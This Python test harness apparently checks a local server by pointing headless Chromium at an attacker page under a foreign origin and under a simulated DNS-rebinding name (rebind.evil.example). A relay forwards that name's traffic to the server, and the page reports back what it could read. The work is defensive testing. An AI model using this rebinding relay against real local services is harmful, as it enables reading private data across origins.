"""A real Chromium on a page of an attacker: it tries everything a page can, and reports what it could read.

It opens two pages, one after the other. The first has another origin. The second is rebound: it has the origin of the server,
because the attacker's DNS gives his name the server's address once the page is loaded. Here `_Rebound` does that: under the
attacker's name it serves the page, and passes everything else on to the server unchanged.
"""

from __future__ import annotations

import json
import shutil
import socket
import socketserver
import subprocess
import tempfile
import threading
from collections.abc import Mapping
from contextlib import suppress
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path
from typing import Any

PAGE = Path(__file__).with_name("attacker_page.html")
REBOUND = "rebind.evil.example"
REBOUND_PATH = "/attacker.html"
ORIGIN = "page.evil.example"
ATTACKERS_ADDRESS = "127.0.0.2"
"""An address of this machine on which the server does not listen, so that its port is free there."""
PAGES = 2
NAMES = ("chromium", "chromium-browser", "google-chrome", "google-chrome-stable")
MISSING = "no Chromium on this machine; `apt-get install chromium` brings one"
VISIT_SECONDS = 90.0
FLAGS = (
    "--headless",
    "--no-sandbox",
    "--disable-gpu",
    "--disable-quic",
    "--disable-dev-shm-usage",
    "--no-first-run",
    "--no-proxy-server",
    "--disable-background-networking",
    "--disable-component-update",
    "--disable-sync",
    "--disable-default-apps",
    "--disable-extensions",
)


class NoChromiumError(RuntimeError):
    """There is no Chromium to attack with."""


def find() -> str | None:
    """Return the path of a Chromium, or None."""
    return next((path for path in map(shutil.which, NAMES) if path), None)


class _Page(BaseHTTPRequestHandler):
    """Serves the page under every path, and takes its reports."""

    reports: dict[str, dict[str, str]]
    page: bytes
    done: threading.Event

    def do_GET(self) -> None:
        self._answer(self.page, "text/html; charset=utf-8")

    def do_POST(self) -> None:
        report = json.loads(self.rfile.read(int(self.headers["content-length"])))
        self.reports[report["page"]] = report["seen"]
        self._answer(b"{}", "application/json")
        if len(self.reports) == PAGES:
            self.done.set()

    def _answer(self, body: bytes, kind: str) -> None:
        self.send_response(200)
        self.send_header("content-type", kind)
        self.send_header("content-length", str(len(body)))
        self.end_headers()
        self.wfile.write(body)

    def log_message(self, format: str, *args: Any) -> None:
        """Say nothing."""


class _Rebound(socketserver.BaseRequestHandler):
    """One connection to the attacker's name: the page under `REBOUND_PATH`, else the bytes of the server."""

    target: tuple[str, int]
    page: bytes

    def handle(self) -> None:
        first = self.request.recv(1 << 16)
        if first.startswith(f"GET {REBOUND_PATH} ".encode()):
            top = f"HTTP/1.1 200 OK\r\nContent-Type: text/html\r\nContent-Length: {len(self.page)}\r\n"
            self.request.sendall(f"{top}Connection: close\r\n\r\n".encode() + self.page)
            return
        with suppress(OSError), socket.create_connection(self.target) as server:
            server.sendall(first)
            back = threading.Thread(target=_pump, args=(server, self.request), daemon=True)
            back.start()
            _pump(self.request, server)
            back.join()


def _pump(source: socket.socket, sink: socket.socket) -> None:
    with suppress(OSError):
        while data := source.recv(1 << 16):
            sink.sendall(data)
    with suppress(OSError):
        sink.shutdown(socket.SHUT_WR)


class _Forwarder(socketserver.ThreadingTCPServer):
    allow_reuse_address = True
    daemon_threads = True


def visit(port: int, facts: Mapping[str, Any]) -> dict[str, str]:
    """Open the attacker's pages and return what each attempt on the server at ``port`` read.

    Args:
        port: of the server, on loopback.
        facts: what the page knows: session, reply, words to plant, and a key or None.

    Raises:
        NoChromiumError: there is no Chromium.
        AssertionError: the pages did not report within `VISIT_SECONDS`.
    """
    browser = find()
    if browser is None:
        raise NoChromiumError(MISSING)
    done, reports = threading.Event(), dict[str, dict[str, str]]()
    handler = type("Page", (_Page,), {"reports": reports, "done": done})
    home = ThreadingHTTPServer(("127.0.0.1", 0), handler)
    addresses = {
        "server": f"http://127.0.0.1:{port}",
        "rebound": f"http://{REBOUND}:{port}",
        "rebound_page": f"http://{REBOUND}:{port}{REBOUND_PATH}",
        "report": f"http://{ORIGIN}:{home.server_address[1]}/report",
    }
    page = PAGE.read_text().replace("FACTS", json.dumps({**facts, **addresses})).encode()
    handler.page = page
    relay = type("Relay", (_Rebound,), {"target": ("127.0.0.1", port), "page": page})
    forwarder = _Forwarder((ATTACKERS_ADDRESS, port), relay)
    for each in (home, forwarder):
        threading.Thread(target=each.serve_forever, daemon=True).start()
    rules = f"MAP {REBOUND} {ATTACKERS_ADDRESS},MAP {ORIGIN} 127.0.0.1"
    with tempfile.TemporaryDirectory(ignore_cleanup_errors=True) as profile:
        process = subprocess.Popen(
            [
                browser,
                *FLAGS,
                f"--user-data-dir={profile}",
                f"--host-resolver-rules={rules}",
                "--remote-debugging-port=0",
                f"http://{ORIGIN}:{home.server_address[1]}/",
            ],
            stdout=subprocess.DEVNULL,
            stderr=subprocess.PIPE,
            start_new_session=True,
        )
        log: list[bytes] = []
        assert process.stderr is not None
        threading.Thread(target=lambda: log.extend(process.stderr or ()), daemon=True).start()
        try:
            finished = done.wait(VISIT_SECONDS)
        finally:
            process.terminate()
            with suppress(subprocess.TimeoutExpired):
                process.wait(10)
            process.kill()
            process.wait()
            for each in (home, forwarder):
                each.shutdown()
                each.server_close()
    assert finished, f"Chromium reported {sorted(reports)} only:\n{b''.join(log[-10:]).decode(errors='replace')}"
    return {f"{page}: {what}": text for page, seen in reports.items() for what, text in seen.items()}
